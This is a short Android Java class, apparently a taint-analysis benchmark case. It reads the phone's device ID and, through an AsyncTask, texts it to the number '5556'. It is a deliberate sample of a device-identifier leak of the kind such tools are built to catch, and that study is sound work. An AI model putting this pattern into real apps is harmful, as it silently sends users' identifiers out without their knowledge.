package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** A task reads it in the background and sends it when done. */
public class Tasked extends Case {
    class Task extends AsyncTask<String, Void, String> {
        @Override protected String doInBackground(String... a) { return a[0]; }
        @Override protected void onPostExecute(String r) { SmsManager.getDefault().sendTextMessage("5556", null, r, null, null); }
    }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        new Task().execute(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
    }
}
